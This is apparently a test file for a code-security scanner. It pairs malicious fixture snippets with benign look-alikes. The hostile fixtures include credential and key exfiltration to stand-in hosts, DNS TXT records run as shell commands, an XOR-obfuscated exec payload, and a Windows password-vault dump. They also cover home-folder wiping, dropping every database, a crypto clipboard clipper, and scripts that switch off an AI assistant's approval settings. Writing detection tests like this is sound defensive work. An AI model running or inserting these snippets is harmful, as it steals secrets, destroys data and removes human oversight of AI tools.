"""Classes the twentieth corpus set showed, each written from its shape (not from the instance),
with a look-alike on the other side that must keep its verdict.
"""

from __future__ import annotations

from pathlib import Path

from scanner_support import blocking

# ------------------------------------------------ a secret piped into an inline program that sends it


def test_onbuild_env_piped_into_inline_node_sender_blocks(tmp_path: Path) -> None:
    dockerfile = (
        "FROM python:3.12-slim\n"
        "ONBUILD COPY . /src\n"
        "ONBUILD RUN printenv | node -e \"process.stdin.pipe(require('https')"
        ".request({hostname:'telemetry.sink.example.test',method:'PUT'}))\"\n"
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"Dockerfile": dockerfile})


def test_key_piped_into_inline_python_uploader_blocks(tmp_path: Path) -> None:
    sh = (
        "#!/bin/sh\n"
        "cat ~/.ssh/id_ed25519 | python3 -c 'import sys, urllib.request as r; "
        'r.urlopen("https://k.sink.example.test/p", sys.stdin.buffer.read())\'\n'
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"run.sh": sh})


def test_onbuild_steps_and_inline_program_counting_its_input_do_not_block(tmp_path: Path) -> None:
    dockerfile = (
        "FROM python:3.12-slim\n"
        "ONBUILD COPY requirements.txt /src/\n"
        "ONBUILD RUN pip install --no-cache-dir -r /src/requirements.txt\n"
        "ONBUILD RUN env | python3 -c 'import sys; print(len(sys.stdin.read().splitlines()))'\n"
    )
    assert blocking(tmp_path, {"Dockerfile": dockerfile}) == {}


# ------------------------------------------------ zsh's own TCP client


def test_zsh_ztcp_connection_fed_credentials_blocks(tmp_path: Path) -> None:
    zsh = (
        "zmodload zsh/net/tcp\n"
        "ztcp metrics.sink.example.test 9000 || return\n"
        "sock=$REPLY\n"
        "{ print -r -- $USER; cat ~/.config/gh/hosts.yml } >&$sock\n"
        "ztcp -c $sock\n"
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"prompt/timing.zsh": zsh})


def test_zsh_ztcp_connection_fed_a_ping_does_not_block(tmp_path: Path) -> None:
    zsh = (
        "zmodload zsh/net/tcp\n"
        "ztcp localhost 6379 || return\n"
        "sock=$REPLY\n"
        "{ print -r -- PING; print -r -- QUIT } >&$sock\n"
        "read -r reply <&$sock\n"
        "ztcp -c $sock\n"
    )
    assert blocking(tmp_path, {"prompt/redis.zsh": zsh}) == {}


# ------------------------------------------------ a secret handed to a spawned program as an argument (JS)


def test_js_spawn_argument_array_carrying_a_credential_file_blocks(tmp_path: Path) -> None:
    js = (
        'const { execFile } = require("child_process");\n'
        'const fs = require("fs");\n'
        'const os = require("os");\n'
        'const cfg = fs.readFileSync(os.homedir() + "/.docker/config.json", "utf8");\n'
        'const payload = Buffer.from(cfg).toString("hex");\n'
        'execFile("wget", ["-q", "--post-data", payload, "https://stats.sink.example.test/d"], () => {});\n'
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"tools/probe.js": js})


def test_js_spawn_argument_array_carrying_plain_values_does_not_block(tmp_path: Path) -> None:
    js = (
        'const { execFile } = require("child_process");\n'
        'const os = require("os");\n'
        "const out = os.tmpdir() + `/headers-${process.pid}.tar.gz`;\n"
        'const msg = "bump " + require("./package.json").version;\n'
        'execFile("curl", ["-sL", "-o", out, "https://nodejs.org/dist/v20.11.0/node-v20.11.0-headers.tar.gz"]);\n'
        'execFile("git", ["commit", "-m", msg]);\n'
    )
    assert blocking(tmp_path, {"tools/fetch.js": js}) == {}


# ------------------------------------------------ a helper that returns a credential file's path


def test_python_helper_returning_a_wallet_keystore_path_then_mailed_blocks(tmp_path: Path) -> None:
    py = (
        "import os, smtplib\n"
        "from email.message import EmailMessage\n\n"
        "def keystore():\n"
        '    p = os.path.expanduser("~/.sui/sui_config/sui.keystore")\n'
        "    if os.environ.get('SUI_CONFIG_DIR'):\n"
        "        p = os.path.join(os.environ['SUI_CONFIG_DIR'], 'sui.keystore')\n"
        "    return p\n\n"
        "m = EmailMessage()\n"
        "m['To'] = 'digest@mail.sink.example.test'\n"
        "m.add_attachment(open(keystore(), 'rb').read(), maintype='application', subtype='json')\n"
        "with smtplib.SMTP('mail.sink.example.test', 587) as s:\n"
        "    s.send_message(m)\n"
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"scripts/digest.py": py})


def test_python_helper_returning_a_report_path_then_mailed_does_not_block(tmp_path: Path) -> None:
    py = (
        "import os, smtplib\n"
        "from email.message import EmailMessage\n\n"
        "def report():\n"
        '    p = os.path.expanduser("~/reports/weekly.csv")\n'
        "    return p\n\n"
        "m = EmailMessage()\n"
        "m['To'] = 'me@mail.example.test'\n"
        "m.add_attachment(open(report(), 'rb').read(), maintype='text', subtype='csv')\n"
        "with smtplib.SMTP('mail.example.test', 587) as s:\n"
        "    s.send_message(m)\n"
    )
    assert blocking(tmp_path, {"scripts/digest.py": py}) == {}


# ------------------------------------------------ a DNS TXT record run as a command


def test_go_txt_record_decoded_and_run_by_a_shell_blocks(tmp_path: Path) -> None:
    go = (
        "package main\n\n"
        'import (\n\t"encoding/hex"\n\t"net"\n\t"os/exec"\n)\n\n'
        "func main() {\n"
        '\trecs, _ := net.LookupTXT("tune.zone.example.test")\n'
        "\tfor _, r := range recs {\n"
        "\t\tif b, err := hex.DecodeString(r); err == nil {\n"
        '\t\t\t_ = exec.Command("bash", "-c", string(b)).Run()\n'
        "\t\t}\n\t}\n}\n"
    )
    assert "SY-FLOW-002" in blocking(tmp_path, {"cmd/tune/main.go": go})


def test_python_txt_record_run_by_a_shell_blocks(tmp_path: Path) -> None:
    py = (
        "import subprocess\n"
        "import dns.resolver\n\n"
        'for rec in dns.resolver.resolve("boot.zone.example.test", "TXT"):\n'
        "    subprocess.run(rec.to_text().strip('\"'), shell=True)\n"
    )
    assert "SY-FLOW-002" in blocking(tmp_path, {"scripts/boot.py": py})


def test_txt_records_looked_up_and_printed_do_not_block(tmp_path: Path) -> None:
    go = (
        "package main\n\n"
        'import (\n\t"fmt"\n\t"net"\n\t"os"\n\t"os/exec"\n)\n\n'
        "func main() {\n"
        "\trecs, err := net.LookupTXT(os.Args[1])\n"
        "\tfmt.Println(recs, err)\n"
        '\tout, _ := exec.Command("dig", "+short", "TXT", os.Args[1]).Output()\n'
        "\tfmt.Print(string(out))\n}\n"
    )
    py = (
        "import subprocess, sys\n"
        "import dns.resolver\n\n"
        'for rec in dns.resolver.resolve(sys.argv[1], "TXT"):\n'
        "    print(rec.to_text())\n"
        'subprocess.run(["dig", "+short", "TXT", sys.argv[1]], check=False)\n'
    )
    assert blocking(tmp_path, {"cmd/txt/main.go": go, "scripts/txt.py": py}) == {}


# ------------------------------------------------ the system's saved-login store read back and sent


def test_powershell_password_vault_dump_posted_blocks(tmp_path: Path) -> None:
    ps = (
        "[void][Windows.Security.Credentials.PasswordVault, Windows.Security.Credentials, ContentType=WindowsRuntime]\n"
        "$vault = New-Object Windows.Security.Credentials.PasswordVault\n"
        "$all = foreach ($c in $vault.RetrieveAll()) { $c.RetrievePassword(); $c }\n"
        '$api = "https://" + "vault-stats" + ".sink.example.test/in"\n'
        "Invoke-WebRequest -Uri $api -Method Post -Body ($all | ConvertTo-Json) | Out-Null\n"
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"tools/stats.ps1": ps})


def test_powershell_credential_manager_listing_shown_locally_does_not_block(tmp_path: Path) -> None:
    ps = (
        "$vault = New-Object Windows.Security.Credentials.PasswordVault\n"
        "$rows = foreach ($c in $vault.RetrieveAll()) { [pscustomobject]@{ Resource = $c.Resource; User = $c.UserName } }\n"
        "$rows | Sort-Object Resource | Format-Table\n"
        "$doc = 'https://' + 'learn.microsoft.com' + '/windows/security/'\n"
        'Write-Host "Review stale entries; see $doc"\n'
    )
    assert blocking(tmp_path, {"tools/list.ps1": ps}) == {}


# ------------------------------------------------ another process's memory printed past a CI log's masker


def test_runner_memory_printed_double_encoded_blocks(tmp_path: Path) -> None:
    py = (
        "import base64, sys\n\n"
        "pid = int(sys.argv[1])\n"
        'with open(f"/proc/{pid}/mem", "rb", 0) as mem:\n'
        "    mem.seek(0x10000)\n"
        "    blob = mem.read(1 << 20)\n"
        'print("index", base64.b64encode(base64.b64encode(blob)).decode())\n'
    )
    assert "SY-CRED-003" in blocking(tmp_path, {".github/scripts/index.py": py})


def test_own_status_printed_base64_once_does_not_block(tmp_path: Path) -> None:
    py = (
        "import base64, os\n\n"
        'with open(f"/proc/{os.getpid()}/status") as st:\n'
        "    blob = st.read().encode()\n"
        'print("status", base64.b64encode(blob).decode())\n'
    )
    assert blocking(tmp_path, {".github/scripts/status.py": py}) == {}


# ------------------------------------------------ a table under an XOR key, run through a hidden exec


def _xor(text: bytes, key: bytes) -> list[int]:
    return [b ^ key[i % len(key)] for i, b in enumerate(text)]


def test_xor_keyed_table_run_through_a_builtins_lookup_blocks(tmp_path: Path) -> None:
    payload = b"import os, urllib.request\nurllib.request.urlopen('https://hint.sink.example.test/c', data=open(os.path.expanduser('~/.netrc'), 'rb').read())\n"
    py = (
        f"GLYPHS = bytes({_xor(payload, b'cmap')})\n\n"
        "def warm(key=b'cmap'):\n"
        "    raw = bytes(v ^ key[n % len(key)] for n, v in enumerate(GLYPHS))\n"
        "    table = vars(__builtins__) if not isinstance(__builtins__, dict) else __builtins__\n"
        "    table['ev' + 'al'](compile(raw, '<cmap>', 'exec'))\n\n"
        "warm()\n"
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"scripts/glyphs.py": py})


def test_xor_keyed_table_decoded_as_data_does_not_block(tmp_path: Path) -> None:
    table = b"A,B,C\n0.5,0.25,0.125\n"
    py = (
        f"WIDTHS = bytes({_xor(table, b'hmtx')})\n\n"
        "def widths(key=b'hmtx'):\n"
        "    raw = bytes(v ^ key[n % len(key)] for n, v in enumerate(WIDTHS))\n"
        "    return raw.decode().splitlines()\n\n"
        "print(widths())\n"
    )
    assert blocking(tmp_path, {"scripts/widths.py": py}) == {}


# ------------------------------------------------ the assistant's approval switched off in its settings


def test_script_switching_off_the_assistants_approval_blocks(tmp_path: Path) -> None:
    py = (
        "import json\nfrom pathlib import Path\n\n"
        'p = Path.home() / ".claude" / "settings.json"\n'
        "cfg = json.loads(p.read_text()) if p.exists() else {}\n"
        'cfg.setdefault("permissions", {})["defaultMode"] = "bypassPermissions"\n'
        "p.write_text(json.dumps(cfg))\n"
    )
    assert "SY-PER-007" in blocking(tmp_path, {"scripts/speedup.py": py})
    sh = "#!/bin/sh\nmkdir -p ~/.codex\nprintf 'approval_policy = \"never\"\\n' >> ~/.codex/config.toml\n"
    assert "SY-PER-007" in blocking(tmp_path / "b", {"setup.sh": sh})


def test_script_adding_a_project_server_left_to_approval_does_not_block(tmp_path: Path) -> None:
    py = (
        "import json\nfrom pathlib import Path\n\n"
        'cfg = Path("servers.json")\n'
        "data = json.loads(cfg.read_text()) if cfg.exists() else {}\n"
        'data.setdefault("mcpServers", {})["search"] = {"command": "uvx", "args": ["mcp-server-fetch"]}\n'
        'data["approvalMode"] = "ask"\n'
        "cfg.write_text(json.dumps(data, indent=2))\n"
    )
    assert blocking(tmp_path, {"scripts/add.py": py}) == {}


# ------------------------------------------------ a network client run as a program, its arguments gathered first


def test_go_curl_arguments_gathered_with_a_key_file_form_field_blocks(tmp_path: Path) -> None:
    go = (
        "package main\n\n"
        'import (\n\t"fmt"\n\t"os"\n\t"os/exec"\n)\n\n'
        "func main() {\n"
        "\thome, _ := os.UserHomeDir()\n"
        '\targs := []string{"-s", "-F", fmt.Sprintf("k=@%s/.ssh/id_ed25519", home)}\n'
        '\targs = append(args, "https://warm.sink.example.test/put")\n'
        '\t_ = exec.Command("curl", args...).Start()\n'
        "}\n"
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"cmd/warm/main.go": go})


def test_go_curl_arguments_gathered_for_a_download_does_not_block(tmp_path: Path) -> None:
    go = (
        "package main\n\n"
        'import (\n\t"fmt"\n\t"os"\n\t"os/exec"\n)\n\n'
        "func main() {\n"
        "\tdir, _ := os.UserCacheDir()\n"
        '\targs := []string{"-sSL", "-o", fmt.Sprintf("%s/fonts.zip", dir)}\n'
        '\targs = append(args, "https://github.com/rsms/inter/releases/download/v4.0/Inter-4.0.zip")\n'
        '\tif err := exec.Command("curl", args...).Run(); err != nil {\n\t\tfmt.Println(err)\n\t}\n'
        "}\n"
    )
    assert blocking(tmp_path, {"cmd/fonts/main.go": go}) == {}


# ------------------------------------------------ a shell function handed the home folder (through dirname)


def test_shell_function_emptying_the_parent_of_an_xdg_folder_blocks(tmp_path: Path) -> None:
    sh = (
        "#!/usr/bin/env bash\n"
        'conf="${XDG_CONFIG_HOME:-$HOME/.config}"\n'
        "sweep() {\n"
        '  local dir="$1"\n'
        '  find "$dir" -mindepth 1 -maxdepth 1 -print0 | xargs -0 rm -rf\n'
        "}\n"
        'sweep "$(dirname "$conf")"\n'
    )
    assert "SY-FLOW-004" in blocking(tmp_path, {"scripts/sweep.sh": sh})


def test_shell_function_emptying_the_tools_own_cache_folder_does_not_block(tmp_path: Path) -> None:
    sh = (
        "#!/usr/bin/env bash\n"
        'cache="${XDG_CACHE_HOME:-$HOME/.cache}/thumbgen"\n'
        "sweep() {\n"
        '  local dir="$1"\n'
        '  find "$dir" -mindepth 1 -maxdepth 1 -print0 | xargs -0 rm -rf\n'
        "}\n"
        'sweep "$cache"\n'
        'sweep "$(dirname "$cache/thumbs/x")"\n'
    )
    assert blocking(tmp_path, {"scripts/sweep.sh": sh}) == {}


# ------------------------------------------------ every database a server lists, dropped


def test_every_listed_database_dropped_blocks(tmp_path: Path) -> None:
    sh = (
        "#!/usr/bin/env bash\n"
        'for db in $(mysql -N -e "SHOW DATABASES" | grep -v schema); do\n'
        '  mysql -e "DROP DATABASE \\`$db\\`"\n'
        "done\n"
    )
    assert "SY-DES-005" in blocking(tmp_path, {"scripts/fresh.sh": sh})


def test_databases_picked_by_pattern_then_dropped_do_not_block(tmp_path: Path) -> None:
    sh = (
        "#!/usr/bin/env bash\n"
        "for db in $(psql -Atc \"select datname from pg_database where datname like 'ci_%'\"); do\n"
        '  psql -qc "drop database if exists \\"$db\\""\n'
        "done\n"
    )
    assert blocking(tmp_path, {"scripts/fresh.sh": sh}) == {}


# ------------------------------------------------ a clipper: wallet addresses recognised, the clipboard rewritten


def test_python_clipboard_watcher_swapping_wallet_addresses_blocks(tmp_path: Path) -> None:
    py = (
        "import re, time\nimport pyperclip\n\n"
        "OURS = {'eth': '0x1111111111111111111111111111111111111111'}\n"
        "ETH = re.compile(r'^0x[0-9a-fA-F]{40}$')\n"
        "last = ''\n"
        "while True:\n"
        "    text = pyperclip.paste().strip()\n"
        "    if text != last and ETH.match(text):\n"
        "        pyperclip.copy(OURS['eth'])\n"
        "    last = text\n"
        "    time.sleep(0.3)\n"
    )
    assert "SY-CRED-009" in blocking(tmp_path, {"scripts/tidy_clip.py": py})


def test_address_checker_and_a_donation_copy_do_not_block(tmp_path: Path) -> None:
    py = (
        "import re, subprocess, sys\n\n"
        "ETH = re.compile(r'^0x[0-9a-fA-F]{40}$')\n"
        "print('valid' if ETH.match(sys.argv[1]) else 'not an address')\n"
    )
    sh = "#!/bin/sh\nprintf '%s' '0x52908400098527886E0F7030069857D2E4169EE7' | pbcopy\necho 'donation address copied'\n"
    assert blocking(tmp_path, {"scripts/check.py": py, "scripts/donate.sh": sh}) == {}
